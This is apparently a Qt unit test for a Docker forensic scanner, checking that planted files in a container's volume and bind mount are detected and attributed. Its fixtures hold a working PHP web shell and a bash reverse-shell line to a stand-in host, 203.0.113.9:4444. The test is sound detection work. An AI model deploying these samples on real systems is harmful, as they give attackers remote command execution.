// The contents of a container's volumes and bind mounts, when the evidence holds them, go
// through the file-system and content checks at their paths in the container, and each finding
// names the mount and the folder it was read from. The data root is tests/data/dataroot (made
// with a real engine: stopped-one has the volume labvol at /srv/vol and a bind of a stand-in
// host folder at /srv/share); the test plants files into an unpacked copy of it, once as a
// copied data root and once inside a host tree (<host>/var/lib/docker) that also holds the
// bind source.

#include "analysis/analyzer.h"
#include "checks/fileset.h"
#include "testpaths.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>

using namespace dockscope;
using namespace dockscope::test;
using namespace Qt::StringLiterals;

namespace {

const QString StoppedOne = u"7142062ad4ff15096bd478ba120f13ff2ca42b86d040d639fb0f5c622d6782f6"_s;
const QString BindSource = u"/tmp/dockscope-dataroot.RVol7b/host/share"_s;

bool write(const QString &path, const QByteArray &bytes, QFileDevice::Permissions extra = {})
{
    QDir().mkpath(QFileInfo(path).path());
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly)) {
        return false;
    }
    f.write(bytes);
    f.close();
    return f.setPermissions(f.permissions() | extra);
}

bool unpack(const QString &tarball, const QString &into)
{
    QDir().mkpath(into);
    QProcess tar;
    tar.start(u"tar"_s, {u"-xzf"_s, tarball, u"-C"_s, into});
    return tar.waitForFinished(60000) && tar.exitCode() == 0;
}

const Finding *find(const Analysis &a, const QString &rule, const QString &path)
{
    const auto it = std::find_if(a.findings.begin(), a.findings.end(),
                                 [&](const Finding &f) { return f.rule == rule && f.path == path; });
    return it == a.findings.end() ? nullptr : &*it;
}

const Container *container(const Analysis &a, const QString &id)
{
    const auto it = std::find_if(a.containers.begin(), a.containers.end(), [&](const Container &c) { return c.id == id; });
    return it == a.containers.end() ? nullptr : &*it;
}

const QByteArray Webshell = "<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; } ?>\n";
const QByteArray ReverseShell = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n";

} // namespace

class TestMountContents : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void volumeOfTheRecordedDataRoot()
    {
        // As recorded: labvol holds the file stopped-one wrote into it; the bind source was not
        // collected, so only the volume is read.
        const Analysis a = Analyzer::run({data(u"dataroot/dataroot.tar.gz"_s)}, {});
        const Container *c = container(a, StoppedOne);
        QVERIFY(c);
        QCOMPARE(c->mountContents.size(), std::size_t(1));
        const MountContent &m = c->mountContents.front();
        QCOMPARE(m.mount.type, u"volume"_s);
        QCOMPARE(m.mount.source, u"labvol"_s);
        QCOMPARE(m.member, u"docker/volumes/labvol/_data"_s);
        QCOMPARE(m.label(), u"volume labvol at /srv/vol"_s);
        QVERIFY(m.scan);

        const std::vector<FileSet> sets = FileSetBuilder::containers(a);
        const auto set = std::find_if(sets.begin(), sets.end(), [](const FileSet &s) { return s.containerId == StoppedOne; });
        QVERIFY(set != sets.end());
        const FileView *f = set->find("srv/vol/from-stopped-one.txt");
        QVERIFY(f);
        QCOMPARE(f->path, u"/srv/vol/from-stopped-one.txt"_s);
        QCOMPARE(f->mount, u"volume labvol at /srv/vol"_s);
        QCOMPARE(f->member, u"docker/volumes/labvol/_data"_s);
        QVERIFY(f->entry && f->entry->sha256.valid);
        // A harmless text file in a volume is no finding.
        QVERIFY(std::none_of(a.findings.begin(), a.findings.end(), [](const Finding &x) { return !x.volume.isEmpty(); }));
    }

    void plantedInAVolumeOfACopiedDataRoot()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        QVERIFY(unpack(data(u"dataroot/dataroot.tar.gz"_s), dir.path()));
        const QString volume = dir.filePath(u"docker/volumes/labvol/_data"_s);
        QVERIFY(write(volume + u"/uploads/.x.php"_s, Webshell));
        QVERIFY(write(volume + u"/rs.sh"_s, ReverseShell, QFileDevice::ExeOwner | QFileDevice::ExeGroup | QFileDevice::ExeOther));

        const Analysis a = Analyzer::run({dir.filePath(u"docker"_s)}, {});
        QCOMPARE(a.evidence.front().kind, u"docker-root"_s);
        const Finding *shell = find(a, u"FC-03"_s, u"/srv/vol/uploads/.x.php"_s);
        QVERIFY(shell);
        QCOMPARE(shell->container, StoppedOne);
        QCOMPARE(shell->volume, u"volume labvol at /srv/vol"_s);
        QCOMPARE(shell->source, u"volumes/labvol/_data"_s); // the data root is the evidence folder
        QCOMPARE(shell->layer, -1);
        QVERIFY(shell->sha256.startsWith(u"sha256:"_s));

        const Finding *dropped = find(a, u"FS-01"_s, u"/srv/vol/rs.sh"_s);
        QVERIFY(dropped);
        QCOMPARE(dropped->volume, u"volume labvol at /srv/vol"_s);
        const Finding *reverse = find(a, u"FC-01"_s, u"/srv/vol/rs.sh"_s);
        QVERIFY2(reverse, "the reverse shell in the volume");
        QCOMPARE(reverse->line, 2);
        QVERIFY(reverse->evidence.contains(u"/dev/tcp/203.0.113.9/4444"_s));

        // The same evidence, the same findings in the same order.
        const Analysis again = Analyzer::run({dir.filePath(u"docker"_s)}, {});
        QCOMPARE(again.findings.size(), a.findings.size());
        for (std::size_t i = 0; i < a.findings.size(); ++i) {
            QCOMPARE(again.findings[i].id, a.findings[i].id);
        }
    }

    void plantedInABindSourceOfAHostTree()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString host = dir.filePath(u"host"_s);
        QVERIFY(unpack(data(u"dataroot/dataroot.tar.gz"_s), host + u"/var/lib"_s));
        const QString share = host + BindSource;
        QVERIFY(write(share + u"/.cache/xmrig"_s, QByteArray("\x7f" "ELF\x02\x01\x01", 7) + QByteArray(64, '\0'),
                      QFileDevice::ExeOwner));

        const Analysis a = Analyzer::run({host}, {});
        const Container *c = container(a, StoppedOne);
        QVERIFY(c);
        QCOMPARE(c->mountContents.size(), std::size_t(2)); // labvol and the bind
        const Finding *miner = find(a, u"FS-02"_s, u"/srv/share/.cache/xmrig"_s);
        QVERIFY(miner);
        QCOMPARE(miner->container, StoppedOne);
        QCOMPARE(miner->volume, u"bind "_s + BindSource + u" at /srv/share"_s);
        QCOMPARE(miner->source, u"tmp/dockscope-dataroot.RVol7b/host/share"_s);
        QCOMPARE(miner->severity, Severity::Critical);
    }
};

QTEST_GUILESS_MAIN(TestMountContents)
#include "tst_mountcontents.moc"
